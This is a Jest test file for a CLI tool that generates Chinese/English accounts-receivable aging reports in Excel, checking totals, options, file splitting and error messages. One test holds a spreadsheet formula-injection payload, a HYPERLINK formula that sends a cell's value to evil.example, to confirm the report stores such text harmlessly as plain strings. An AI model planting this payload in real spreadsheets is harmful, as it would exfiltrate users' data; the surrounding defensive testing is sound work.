import * as fs from "fs";
import * as path from "path";
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { groupKeyOf, parseBy } from "../../src/cli/aging";
import { uniqueNameParts } from "../../src/cli/files";
import * as xlsxRender from "../../src/cli/xlsxRender";
import { DEMO_AS_OF, demoReceivables, HOSTILE } from "../../src/cli/demoData";
import { buildAging } from "../../src/reports/aging";
import { RawTable } from "../../src/reports/table";
import { rulebookStamp } from "../../src/rules/fingerprint";
import { DEFAULT_RULEBOOK, Rulebook } from "../../src/rules/rulebook";
import { rulebookJson } from "../../src/rules/validate";
import { formatFen } from "../../src/rules/values";
import { cellsWithText, ltc, readWorkbook, rowStartingWith, tempDir, worksheetXml, writeInput } from "./cliHarness";

jest.setTimeout(60_000);

const dir = tempDir("aging");
const input = path.join(dir, "receivables.xlsx");
const { table, messy } = demoReceivables();
const expected = buildAging(table, { asOf: DEMO_AS_OF, groupBy: ["region", "office"] }, DEFAULT_RULEBOOK);

beforeAll(async () => {
  await writeInput(input, [{ sheet: "应收账款", tableName: "Receivables", table }], { junkFirst: true });
});

afterAll(() => {
  fs.rmSync(dir, { recursive: true, force: true });
});

/** The grand-total row of a summary sheet: { total, count } read from the cells under 合计/Total and 笔数/Items. */
function grandTotal(ws: ExcelJS.Worksheet, lang: "zh" | "en" = "zh"): { total: number; count: number; buckets: number[] } {
  const totalLabel = lang === "en" ? "Grand total" : "总计";
  const row = rowStartingWith(ws, totalLabel);
  if (!row) throw new Error(`no ${totalLabel} row on ${ws.name}`);
  const nb = expected.buckets.length;
  return { buckets: row.slice(1, 1 + nb) as number[], total: row[1 + nb] as number, count: row[3 + nb] as number };
}

describe("ltc aging: the report", () => {
  const out = path.join(dir, "aging.xlsx");
  let run: Awaited<ReturnType<typeof ltc>>;
  beforeAll(async () => {
    run = await ltc(["aging", input, "--as-of", "2026-11-30", "--by", "片区,代表处", "-o", out]);
  });

  test("exits 0 and prints rows, items, excluded, reconciliation and the rulebook fingerprint on stdout", () => {
    expect(run.errLines).toEqual([]);
    expect(run.code).toBe(0);
    const r = expected.reconciliation;
    expect(run.out).toContain(`rows read ${r.rows} · open items ${expected.items.length} · credits ${expected.credits.length} · excluded ${expected.excluded.length}`);
    expect(run.out).toContain(`reconciliation OK: input ${formatFen(r.inputFen)} = buckets ${formatFen(r.bucketsFen)}`);
    expect(run.out).toContain(`rulebook ${rulebookStamp(DEFAULT_RULEBOOK)}`);
    expect(run.out).toContain(`wrote ${out}`);
    // the table was found (a junk sheet comes first), and the report is not on stderr
    expect(run.err).not.toMatch(/reconciliation/);
  });

  test("the workbook has the five report sheets and its totals equal the engine's, to the fen", async () => {
    const wb = await readWorkbook(out);
    expect(wb.worksheets.map((w) => w.name)).toEqual(["账龄汇总", "账龄明细", "催收措施", "坏账准备", "数据问题"]);
    const g = grandTotal(wb.getWorksheet("账龄汇总")!);
    expect(Math.round(g.total * 100)).toBe(expected.grandTotal.totalFen);
    expect(g.buckets.map((b) => Math.round(b * 100))).toEqual(expected.grandTotal.bucketFen);
    expect(g.count).toBe(expected.items.length);
    // every group of 片区 / 代表处 is a row
    for (const group of expected.groups) expect(rowStartingWith(wb.getWorksheet("账龄汇总")!, group.label)).toBeDefined();
  });

  test("the data issues sheet lists the messy rows by worksheet row number", async () => {
    const wb = await readWorkbook(out);
    const ws = wb.getWorksheet("数据问题")!;
    const rows: number[] = [];
    ws.eachRow((row) => {
      const v = row.getCell(1).value;
      if (typeof v === "number") rows.push(v);
    });
    for (const r of [messy.badDate, messy.overpaid, messy.unknownClass, messy.blankAmount, messy.duplicate]) expect(rows).toContain(r);
  });

  test("hostile text is a string cell in the .xlsx: never a formula, read back unchanged", async () => {
    const wb = await readWorkbook(out);
    const hostile = [HOSTILE.hyperlink, HOSTILE.cmd, HOSTILE.sum, HOSTILE.minus, HOSTILE.tab, HOSTILE.cr];
    const cells = cellsWithText(wb.getWorksheet("账龄明细")!, hostile);
    expect(new Set(cells.map((c) => c.value))).toEqual(new Set(hostile));
    for (const cell of cells) {
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
    }
    // and in the file itself: the report has no formula element at all, and the texts are shared strings
    for (const xml of await worksheetXml(out)) expect(xml).not.toMatch(/<f[ >]/);
    const zip = await JSZip.loadAsync(fs.readFileSync(out));
    const shared = await zip.file("xl/sharedStrings.xml")!.async("string");
    expect(shared).toContain("=HYPERLINK(&quot;http://evil.example/steal?x=&quot;&amp;A1,&quot;点击查看对账单&quot;)");
    expect(shared).toContain("@SUM(A1:A9)");
  });

  test("the as-of date and the rulebook stamp are written into the report", async () => {
    const wb = await readWorkbook(out);
    const ws = wb.getWorksheet("账龄汇总")!;
    expect(ws.headerFooter.oddFooter).toContain("2026-11-30");
    expect(ws.headerFooter.oddFooter).toContain(rulebookStamp(DEFAULT_RULEBOOK));
    const asOf = rowStartingWith(ws, "截至日期")!;
    expect(asOf[1]).toEqual(new Date(Date.UTC(2026, 10, 30)));
  });
});

describe("ltc aging: options", () => {
  test("--lang en --basis invoice --by 客户分类: English sheets, grouped by class", async () => {
    const out = path.join(dir, "aging-en.xlsx");
    const run = await ltc(["aging", input, "--as-of", "2026/11/30", "--lang", "en", "--basis", "invoice", "--by", "客户分类", "-o", out]);
    expect(run.errLines).toEqual([]);
    expect(run.code).toBe(0);
    const wb = await readWorkbook(out);
    expect(wb.worksheets.map((w) => w.name)).toEqual(["Aging summary", "Aging detail", "Actions", "Provision", "Data issues"]);
    const en = buildAging(table, { asOf: DEMO_AS_OF, basis: "invoice", groupBy: ["customerClass"], lang: "en" }, DEFAULT_RULEBOOK);
    const summary = wb.getWorksheet("Aging summary")!;
    expect(Math.round(grandTotal(summary, "en").total * 100)).toBe(en.grandTotal.totalFen);
    expect(rowStartingWith(summary, "Class B")).toBeDefined();
    expect(rowStartingWith(summary, "Unclassified")).toBeDefined();
  });

  test("--split-by 片区 writes one file per region into the directory; their totals add up to the whole", async () => {
    const outDir = path.join(dir, "by-region");
    const run = await ltc(["aging", input, "--as-of", "2026-11-30", "--split-by", "片区", "-o", outDir]);
    expect(run.errLines).toEqual([]);
    expect(run.code).toBe(0);
    const files = fs.readdirSync(outDir).sort();
    expect(files).toEqual(uniqueNameParts(expected.regions.map((r) => ({ key: r.region, label: r.region }))).map((part) => `账龄-${part}-2026-11-30.xlsx`).sort());
    let sum = 0;
    for (const f of files) {
      const wb = await readWorkbook(path.join(outDir, f));
      const summary = wb.worksheets[0];
      expect(summary.name).toMatch(/片区 账龄汇总$/);
      sum += Math.round(grandTotal(summary).total * 100);
    }
    expect(sum).toBe(expected.grandTotal.totalFen);
    for (const f of files) expect(run.out).toContain(f);
  });

  test("-o an existing directory puts <input>-aging.xlsx in it", async () => {
    const outDir = tempDir("aging-out");
    const run = await ltc(["aging", input, "--as-of", "2026-11-30", "-o", outDir]);
    expect(run.code).toBe(0);
    expect(fs.existsSync(path.join(outDir, "receivables-aging.xlsx"))).toBe(true);
    fs.rmSync(outDir, { recursive: true, force: true });
  });

  test("--sheet and --table pick the input; without them the receivables table is found past a junk sheet", async () => {
    for (const pick of [["--sheet", "应收账款"], ["--table", "receivables"], []]) {
      const out = path.join(dir, `pick-${pick.length}.xlsx`);
      const run = await ltc(["aging", input, "--as-of", "2026-11-30", ...pick, "-o", out]);
      expect(run.errLines).toEqual([]);
      expect(run.out).toContain(`rows read ${expected.reconciliation.rows} `);
    }
  });

  /* eslint-disable no-control-regex -- the bar is made of control characters */
  test("a progress bar goes to stderr only when stderr is a terminal", async () => {
    const quiet = await ltc(["aging", input, "--as-of", "2026-11-30", "-o", path.join(dir, "p1.xlsx")]);
    expect(quiet.err).not.toMatch(/[\r\u001b]/);
    const tty = await ltc(["aging", input, "--as-of", "2026-11-30", "-o", path.join(dir, "p2.xlsx")], { tty: true });
    expect(tty.code).toBe(0);
    expect(tty.err).toMatch(/\rreading receivables\.xlsx/);
    expect(tty.err).toMatch(/\r\u001b\[K$/); // the bar is cleared at the end
    expect(tty.out).not.toMatch(/[\r\u001b]/);
  });
  /* eslint-enable no-control-regex */

  test("--rules FILE: the report is computed with those rules and says so", async () => {
    const rb = JSON.parse(JSON.stringify(DEFAULT_RULEBOOK)) as Rulebook;
    rb.receivables.provisionBands[0].ratePercent = 50; // within a year: 5% → 50%
    const rules = path.join(dir, "rules.json");
    fs.writeFileSync(rules, rulebookJson(rb, true));
    const out = path.join(dir, "aging-rules.xlsx");
    const run = await ltc(["aging", input, "--as-of", "2026-11-30", "--rules", rules, "-o", out]);
    expect(run.code).toBe(0);
    expect(run.err).toContain(`rules: ${rulebookStamp(rb)} (${rules})`);
    expect(run.out).toContain(`rulebook ${rulebookStamp(rb)}`);
    expect(rulebookStamp(rb)).not.toBe(rulebookStamp(DEFAULT_RULEBOOK));
    const ours = buildAging(table, { asOf: DEMO_AS_OF, groupBy: ["region"] }, rb);
    const defaults = buildAging(table, { asOf: DEMO_AS_OF, groupBy: ["region"] }, DEFAULT_RULEBOOK);
    expect(ours.provisionTotalFen).not.toBe(defaults.provisionTotalFen);
    const provision = (await readWorkbook(out)).getWorksheet("坏账准备")!;
    expect(Math.round((rowStartingWith(provision, "合计")![4] as number) * 100)).toBe(ours.provisionTotalFen);
  });

  test("group-by words in Chinese, traditional and English", () => {
    expect(parseBy("片区,代表处")).toEqual(["region", "office"]);
    expect(parseBy("片區，代表處")).toEqual(["region", "office"]);
    expect(parseBy("Region, Product line")).toEqual(["region", "productLine"]);
    expect(parseBy("customer")).toEqual(["customer"]);
    expect(parseBy(undefined)).toEqual(["region"]);
    expect(groupKeyOf("客户分类")).toBe("customerClass");
  });
});

describe("ltc aging --split-by: region names that clash on disk", () => {
  const LONG = "超长片区名称".repeat(50); // 300 characters
  const REGIONS = ["华北/片区", "华北:片区", "..", "_", "（无片区）", "", LONG];
  const clashInput = path.join(dir, "clashing-regions.xlsx");
  const regionColumn = table.header.indexOf("片区");
  const officeColumn = table.header.indexOf("代表处");
  // a blank region with a blank office has no region at all (an office would give its own)
  const regionCell = (region: string, column: number, v: unknown) => (column === regionColumn ? region : column === officeColumn && region === "" ? null : v);
  const clashing: RawTable = { ...table, rows: table.rows.map((r, i) => r.map((v, c) => regionCell(REGIONS[i % REGIONS.length], c, v))) };
  const whole = buildAging(clashing, { asOf: DEMO_AS_OF, groupBy: ["region"] }, DEFAULT_RULEBOOK);
  beforeAll(async () => {
    await writeInput(clashInput, [{ sheet: "应收账款", tableName: "Receivables", table: clashing }]);
  });

  test("one file per distinct region, readable, bounded; the summary says which holds which, and their totals add up to the input", async () => {
    const outDir = path.join(dir, "clash");
    const run = await ltc(["aging", clashInput, "--as-of", "2026-11-30", "--split-by", "片区", "-o", outDir]);
    expect(run.errLines).toEqual([]);
    expect(run.code).toBe(0);
    const files = fs.readdirSync(outDir).sort();
    expect(files).toHaveLength(whole.regions.length);
    expect(whole.regions.length).toBe(REGIONS.length);
    for (const f of files) expect(Buffer.byteLength(f)).toBeLessThan(255);
    expect(files).toContainEqual(expect.stringMatching(/^账龄-华北_片区~[0-9a-f]{8}-2026-11-30\.xlsx$/));
    expect(files).toContainEqual(expect.stringMatching(/^账龄-（无片区）~[0-9a-f]{8}-2026-11-30\.xlsx$/));
    expect(files).toContainEqual(expect.stringMatching(/^账龄-超长片区名称超长片区名称.*~[0-9a-f]{8}-2026-11-30\.xlsx$/));
    let sum = 0;
    const labels: string[] = [];
    for (const f of files) {
      const line = run.out.split("\n").find((l) => l.startsWith(`wrote ${path.join(outDir, f)}: 片区 `))!;
      const [, label, total] = /: 片区 (".*") · open items \d+ · total (.*)$/.exec(line)!;
      labels.push(JSON.parse(label) as string);
      const fen = Math.round(grandTotal((await readWorkbook(path.join(outDir, f))).worksheets[0]).total * 100);
      expect(formatFen(fen)).toBe(total);
      sum += fen;
    }
    expect(labels.sort()).toEqual(REGIONS.map((r) => (r === "" ? "（无片区）" : r)).sort());
    expect(sum).toBe(whole.grandTotal.totalFen);
    expect(whole.reconciliation.inputFen).toBe(whole.reconciliation.bucketsFen + whole.reconciliation.creditsFen + whole.reconciliation.excludedFen);
    // the same input gives the same names
    const again = path.join(dir, "clash-again");
    await ltc(["aging", clashInput, "--as-of", "2026-11-30", "--split-by", "片区", "-o", again]);
    expect(fs.readdirSync(again).sort()).toEqual(files);
  });

  test("all or nothing: a failure on the third file leaves no new file, no temporary file, and the old files as they were", async () => {
    const real = xlsxRender.writePlansToXlsx;
    let calls = 0;
    const fail = () =>
      jest.spyOn(xlsxRender, "writePlansToXlsx").mockImplementation(async (file, plans) => {
        await real(file, plans);
        if (++calls === 3) throw Object.assign(new Error("ENOSPC: no space left on device, write"), { code: "ENOSPC" });
        return real(file, plans);
      });
    // into a new directory: the directory is not left behind
    const fresh = path.join(dir, "split-fails");
    fail();
    const run = await ltc(["aging", clashInput, "--as-of", "2026-11-30", "--split-by", "片区", "-o", fresh]);
    jest.restoreAllMocks();
    expect(run.code).toBe(2);
    expect(run.errLines).toEqual([expect.stringMatching(/^ltc: cannot write .*: ENOSPC: no space left on device, write$/)]);
    expect(fs.existsSync(fresh)).toBe(false);
    // into last month's directory: its files keep their bytes and nothing is added
    const kept = path.join(dir, "split-kept");
    expect((await ltc(["aging", clashInput, "--as-of", "2026-11-30", "--split-by", "片区", "-o", kept])).code).toBe(0);
    const before = new Map(fs.readdirSync(kept).map((f) => [f, fs.readFileSync(path.join(kept, f))]));
    for (const f of before.keys()) fs.writeFileSync(path.join(kept, f), `old ${f}`);
    calls = 0;
    fail();
    expect((await ltc(["aging", clashInput, "--as-of", "2026-11-30", "--split-by", "片区", "-o", kept])).code).toBe(2);
    jest.restoreAllMocks();
    expect(fs.readdirSync(kept).sort()).toEqual([...before.keys()].sort());
    for (const f of before.keys()) expect(fs.readFileSync(path.join(kept, f), "utf8")).toBe(`old ${f}`);
  });
});

describe("ltc aging: bad input files and options give exit 2 and one line", () => {
  const notXlsx = path.join(dir, "notes.xlsx");
  const zipNotXlsx = path.join(dir, "archive.xlsx");
  const noAmount = path.join(dir, "no-amount.xlsx");
  const noRegion = path.join(dir, "no-region.xlsx");
  beforeAll(async () => {
    fs.writeFileSync(notXlsx, "合同号,金额\nHT-1,100\n");
    const zip = new JSZip();
    zip.file("readme.txt", "not a workbook");
    fs.writeFileSync(zipNotXlsx, await zip.generateAsync({ type: "nodebuffer" }));
    const strip = (t: RawTable, drop: string[]): RawTable => {
      const keep = t.header.map((h, i) => (drop.includes(String(h)) ? -1 : i)).filter((i) => i >= 0);
      return { ...t, header: keep.map((i) => t.header[i]), rows: t.rows.map((r) => keep.map((i) => r[i])) };
    };
    await writeInput(noAmount, [{ sheet: "应收账款", tableName: "R", table: strip(table, ["金额"]) }]);
    await writeInput(noRegion, [{ sheet: "应收账款", tableName: "R", table: strip(table, ["片区", "代表处"]) }]);
  });

  const out = () => path.join(dir, "bad.xlsx");
  const cases: [string, () => string[], RegExp][] = [
    ["missing file", () => [path.join(dir, "nope.xlsx"), "--as-of", "2026-11-30", "-o", out()], /^ltc: cannot read .*nope\.xlsx: no such file$/],
    ["a text file named .xlsx", () => [notXlsx, "--as-of", "2026-11-30", "-o", out()], /^ltc: .*notes\.xlsx is not an \.xlsx workbook \(not a zip file\)$/],
    ["a zip that is not a workbook", () => [zipNotXlsx, "--as-of", "2026-11-30", "-o", out()], /^ltc: .*archive\.xlsx is not a readable \.xlsx workbook/],
    ["a directory", () => [dir, "--as-of", "2026-11-30", "-o", out()], /is a directory, not an \.xlsx workbook$/],
    ["no --as-of", () => [input, "-o", out()], /^ltc: --as-of is required/],
    ["an impossible date", () => [input, "--as-of", "2026-02-30", "-o", out()], /^ltc: --as-of "2026-02-30": not a date; accepts 2026-11-30/],
    ["a number for a date", () => [input, "--as-of", "46356", "-o", out()], /^ltc: --as-of "46356": not a date/],
    ["unknown --by key", () => [input, "--as-of", "2026-11-30", "--by", "部门", "-o", out()], /^ltc: --by "部门": accepts 片区 \(region\), 代表处 \(office\)/],
    ["three --by keys", () => [input, "--as-of", "2026-11-30", "--by", "片区,代表处,客户", "-o", out()], /^ltc: --by .*one or two of/],
    ["the same --by key twice", () => [input, "--as-of", "2026-11-30", "--by", "片区,region", "-o", out()], /must differ/],
    ["bad --basis", () => [input, "--as-of", "2026-11-30", "--basis", "paid", "-o", out()], /^ltc: --basis "paid": accepts due/],
    ["bad --lang", () => [input, "--as-of", "2026-11-30", "--lang", "fr", "-o", out()], /^ltc: --lang "fr": accepts zh or en$/],
    ["--split-by other than region", () => [input, "--as-of", "2026-11-30", "--split-by", "客户", "-o", dir], /^ltc: --split-by "客户": one report per 片区/],
    ["--split-by into a file", () => [input, "--as-of", "2026-11-30", "--split-by", "片区", "-o", input], /with --split-by, -o is a directory/],
    ["no -o", () => [input, "--as-of", "2026-11-30"], /^ltc: aging needs -o/],
    ["-o not .xlsx", () => [input, "--as-of", "2026-11-30", "-o", path.join(dir, "out.csv")], /^ltc: -o .*out\.csv: the report is an \.xlsx file/],
    ["-o in a missing directory", () => [input, "--as-of", "2026-11-30", "-o", path.join(dir, "no", "out.xlsx")], /the directory .* does not exist$/],
    ["--sheet and --table", () => [input, "--as-of", "2026-11-30", "--sheet", "a", "--table", "b", "-o", out()], /^ltc: give --sheet or --table, not both$/],
    ["unknown sheet", () => [input, "--as-of", "2026-11-30", "--sheet", "Sheet9", "-o", out()], /^ltc: .*receivables\.xlsx: No sheet named "Sheet9" \(sheets: 说明, 应收账款\)$/],
    ["unknown table", () => [input, "--as-of", "2026-11-30", "--table", "T9", "-o", out()], /^ltc: .*No table named "T9" \(tables: Receivables\)$/],
    ["missing required column", () => [noAmount, "--as-of", "2026-11-30", "-o", out()], /^ltc: The table has no column for 金额 \(Amount\); accepted headers: 金额, Amount/],
    ["group-by column missing", () => [noRegion, "--as-of", "2026-11-30", "--by", "片区", "-o", out()], /^ltc: groupBy: the table has no column for 片区 \(Region\)/],
    ["no input", () => ["--as-of", "2026-11-30", "-o", out()], /^ltc: aging needs an input workbook/],
    ["two inputs", () => [input, input, "--as-of", "2026-11-30", "-o", out()], /^ltc: aging takes one input workbook, got 2$/],
    ["unknown option", () => [input, "--as-off", "2026-11-30", "-o", out()], /^ltc: .*Unknown option '--as-off'/],
  ];
  test("a bad input file or option is the only line on stderr (no rules line before it)", async () => {
    for (const args of [[path.join(dir, "nope.xlsx")], [notXlsx], [input, "--by", "部门"]]) {
      const run = await ltc(["aging", ...args, "--as-of", "2026-11-30", "-o", out()]);
      expect(run.code).toBe(2);
      expect(run.err.trimEnd().split("\n")).toHaveLength(1);
    }
  });

  test.each(cases)("%s", async (_name, args, message) => {
    const run = await ltc(["aging", ...args()]);
    expect(run.code).toBe(2);
    expect(run.errLines).toHaveLength(1);
    expect(run.errLines[0]).toMatch(message);
    expect(run.out).toBe("");
    expect(fs.existsSync(out())).toBe(false);
  });
});

describe("ltc aging: a receivables sheet whose header names 金额 twice", () => {
  const withSecondAmount = (t: RawTable): RawTable => ({ ...t, header: [...t.header, "金额(万元)"], rows: t.rows.map((r) => [...r, 1]) });
  const dup = withSecondAmount(table);
  const amountLetter = String.fromCharCode(65 + dup.header.indexOf("金额"));
  const secondLetter = String.fromCharCode(65 + dup.header.length - 1);
  const onlyCandidate = path.join(dir, "dup-only.xlsx");
  const besideGood = path.join(dir, "dup-beside-good.xlsx");
  const out = path.join(dir, "dup-out.xlsx");
  beforeAll(async () => {
    // a junk sheet first, the duplicate-header sheet the only receivables table
    await writeInput(onlyCandidate, [{ sheet: "应收账款", tableName: "Ledger", table: dup }], { junkFirst: true });
    await writeInput(besideGood, [
      { sheet: "旧台账", tableName: "Old", table: dup },
      { sheet: "应收账款", tableName: "Ledger", table },
    ]);
  });

  const duplicateMessage = new RegExp(`two columns for 金额 \\(Amount\\): column ${amountLetter} \\("金额"\\) and column ${secondLetter} \\("金额\\(万元\\)"\\)`);

  test("when it is the only candidate, the duplicate is the error (both columns by letter), not the junk sheet's missing columns", async () => {
    const run = await ltc(["aging", onlyCandidate, "--as-of", "2026-11-30", "-o", out]);
    expect(run.code).toBe(2);
    expect(run.errLines).toHaveLength(1);
    expect(run.errLines[0]).toMatch(/^ltc: table "Ledger" on sheet "应收账款": /);
    expect(run.errLines[0]).toMatch(duplicateMessage);
    expect(fs.existsSync(out)).toBe(false);
  });

  test("when the user names it (--sheet or --table), the same error", async () => {
    for (const pick of [["--sheet", "应收账款"], ["--table", "Ledger"]]) {
      const run = await ltc(["aging", onlyCandidate, ...pick, "--as-of", "2026-11-30", "-o", out]);
      expect(run.code).toBe(2);
      expect(run.errLines).toHaveLength(1);
      expect(run.errLines[0]).toMatch(duplicateMessage);
      expect(fs.existsSync(out)).toBe(false);
    }
  });

  test("beside a readable receivables table, the readable one is taken", async () => {
    const run = await ltc(["aging", besideGood, "--as-of", "2026-11-30", "-o", out]);
    expect(run.errLines).toEqual([]);
    expect(run.code).toBe(0);
    expect(run.out).toContain(`rows read ${expected.reconciliation.rows} ·`);
    const named = await ltc(["aging", besideGood, "--sheet", "旧台账", "--as-of", "2026-11-30", "-o", out]);
    expect(named.code).toBe(2);
    expect(named.errLines[0]).toMatch(duplicateMessage);
  });
});

describe("ltc aging: a ledger kept in 万元", () => {
  const inWan = path.join(dir, "wan.xlsx");
  const out = path.join(dir, "wan-out.xlsx");
  // the demo ledger with its amounts written in 万元, as the header says
  const wan: RawTable = {
    ...table,
    header: table.header.map((h) => (h === "金额" ? "金额(万元)" : h === "已回款" ? "已回款(万元)" : h)),
    rows: table.rows.map((r) => r.map((v, i) => (["金额", "已回款"].includes(String(table.header[i])) && typeof v === "number" ? v / 10_000 : v))),
  };
  const units = {
    zh: "金额单位：金额(万元) 万元；已回款(万元) 万元（已换算为元）",
    en: "amount units: 金额(万元) in 10,000 yuan (万元); 已回款(万元) in 10,000 yuan (万元) (converted to yuan)",
  };
  beforeAll(async () => {
    await writeInput(inWan, [{ sheet: "应收账款", tableName: "Ledger", table: wan }]);
  });

  test("the unit is echoed on the reconciliation line (stdout and report) and in the report's header rows", async () => {
    const run = await ltc(["aging", inWan, "--as-of", "2026-11-30", "-o", out]);
    expect(run.errLines).toEqual([]);
    expect(run.code).toBe(0);
    const fromWan = buildAging(wan, { asOf: DEMO_AS_OF, groupBy: ["region"] }, DEFAULT_RULEBOOK);
    expect(fromWan.units).toEqual(units);
    const r = fromWan.reconciliation;
    expect(run.out).toContain(`reconciliation OK: input ${formatFen(r.inputFen)} = buckets ${formatFen(r.bucketsFen)} + credits ${formatFen(r.creditsFen)} + excluded ${formatFen(r.excludedFen)} (${units.en})\n`);
    const ws = (await readWorkbook(out)).getWorksheet("账龄汇总")!;
    expect(rowStartingWith(ws, "金额单位")?.[1]).toBe(units.zh);
    expect(cellsWithText(ws, [`全部输入行未回款 ${formatFen(r.inputFen)} = 各账龄段合计 ${formatFen(r.bucketsFen)} + 贷方余额 ${formatFen(r.creditsFen)} + 剔除行 ${formatFen(r.excludedFen)}（${units.zh}） ✓`])).toHaveLength(1);
    for (const name of ["账龄明细", "催收措施", "坏账准备", "数据问题"]) expect(rowStartingWith((await readWorkbook(out)).getWorksheet(name)!, "金额单位")?.[1]).toBe(units.zh);
  });

  test("a yuan ledger says nothing of units", async () => {
    const run = await ltc(["aging", input, "--as-of", "2026-11-30", "-o", out]);
    expect(run.code).toBe(0);
    expect(run.out).not.toMatch(/units/);
    expect(rowStartingWith((await readWorkbook(out)).getWorksheet("账龄汇总")!, "金额单位")).toBeUndefined();
  });
});
